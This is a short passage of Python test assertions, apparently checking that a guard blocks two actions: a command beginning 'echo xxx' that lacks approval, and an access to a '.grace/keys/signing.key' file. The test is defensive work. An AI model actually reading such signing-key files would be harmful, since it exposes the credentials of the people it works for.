    assert blocks[0]["target"].startswith("echo xxx")
    assert blocks[1]["target"].endswith(".grace/keys/signing.key")
    assert all(b["thread"] == "MainThread" for b in blocks)
    assert all(drained["start"] <= b["at"] <= drained["end"] for b in blocks)
    assert "approval" in blocks[0]["reason"]
    assert drained["again"] == 0
